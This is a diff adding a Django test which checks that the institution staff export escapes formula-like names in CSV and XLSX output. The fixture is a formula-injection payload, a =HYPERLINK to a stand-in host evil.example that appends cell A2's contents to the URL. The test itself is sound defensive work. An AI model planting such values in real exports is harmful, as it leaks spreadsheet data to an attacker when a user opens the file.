@@ -81,3 +81,20 @@ def test_export_query_count_is_constant(client, users, regions, django_assert_ma
     with django_assert_max_num_queries(8):
         response = client.get(reverse("institutions:staff_export", args=["csv"]))
         assert len(_csv_rows(response)) == count + 1
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text(client, users, institutions):
+    """CSV/formula injection: a name an operator typed never becomes a live formula in an official's file."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A2,"点此查看")'
+    Institution.objects.filter(pk=institutions["a"].pk).update(name=evil, address="+86 @home")
+    client.force_login(users["reviewer_a"])
+    response = client.get(reverse("institutions:staff_export", args=["xlsx"]))
+    raw = b"".join(response.streaming_content)
+    sheet = openpyxl.load_workbook(io.BytesIO(raw)).active
+    header = [cell.value for cell in sheet[1]]
+    row = [cell for cell in sheet[2]]
+    name_cell = row[header.index("机构名称")]
+    assert name_cell.value == "'" + evil and name_cell.data_type == "s"
+    assert row[header.index("地址")].value == "'+86 @home"
+    rows = _csv_rows(client.get(reverse("institutions:staff_export", args=["csv"])))
+    assert rows[1][1] == "'" + evil
